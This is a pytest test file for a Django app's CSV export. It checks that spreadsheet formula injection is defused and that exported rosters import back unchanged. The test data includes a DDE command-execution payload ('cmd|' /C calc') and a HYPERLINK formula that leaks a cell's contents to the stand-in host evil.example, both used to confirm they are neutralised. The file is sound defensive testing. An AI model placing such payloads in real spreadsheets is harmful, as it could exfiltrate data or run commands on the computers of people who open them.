"""CSV exports defuse spreadsheet formulas in one shared way (mentorhub.csv_safety), and the people export
still imports back unchanged (review finding)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from mentorhub.accounts.models import Employee, RosterImport
from mentorhub.accounts.services.roster_import import roster_import_start
from mentorhub.csv_safety import safe_cell, unsafe_cell
from tests.factories import EmployeeFactory

DANGEROUS = ["=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "\tTab", "\rReturn"]


@pytest.mark.parametrize("text", [*DANGEROUS, "'=already", "''@twice", "plain", "", "it's", "'quoted", "a=b"])
def test_safe_then_unsafe_gives_the_text_back(text):
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_starts_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_other_values_are_left_alone():
    assert safe_cell("Plain name") == "Plain name"
    assert safe_cell("'quoted") == "'quoted"  # an apostrophe before a harmless character is left as it is
    assert unsafe_cell("'quoted") == "'quoted"
    assert safe_cell(3) == 3 and safe_cell(None) is None
    assert unsafe_cell("''=x") == "'=x"  # exactly one apostrophe is taken off


def export(admin_client, org) -> str:
    response = admin_client.get(reverse("people-export", kwargs={"org_slug": org.slug}))
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_people_export_defuses_formulas(admin_client, org):
    EmployeeFactory(
        organization=org,
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        title="+cmd|' /C calc'!A0",
        department="@Ops",
        location="-Nowhere",
    )
    rows = list(csv.DictReader(io.StringIO(export(admin_client, org))))
    row = next(r for r in rows if "HYPERLINK" in r["name"])
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["title"] == "'+cmd|' /C calc'!A0"
    assert row["department"] == "'@Ops" and row["location"] == "'-Nowhere"


@pytest.mark.django_db
def test_an_exported_file_imports_back_unchanged(admin_client, admin, org, django_capture_on_commit_callbacks):
    boss = EmployeeFactory(organization=org, employee_id="-B1", name="=Boss", title="'=quoted title")
    EmployeeFactory(
        organization=org,
        employee_id="@E2",
        email="-dash@alpha.test",
        name="+Plus Person",
        title="-Lead",
        department="=Dept",
        location="@Home",
        manager=boss,
    )
    fields = ["employee_id", "email", "name", "title", "department", "location", "manager_id", "job_level"]
    before = list(Employee.objects.filter(organization=org).order_by("pk").values(*fields))

    content = export(admin_client, org).encode()
    with django_capture_on_commit_callbacks(execute=True):
        roster_import = roster_import_start(organization=org, actor=admin.user, filename="people.csv", content=content)
    roster_import.refresh_from_db()

    assert roster_import.status == RosterImport.Status.DONE, roster_import.error
    assert (roster_import.created_count, roster_import.updated_count) == (0, 0)
    assert roster_import.unchanged_count == len(before)
    assert list(Employee.objects.filter(organization=org).order_by("pk").values(*fields)) == before
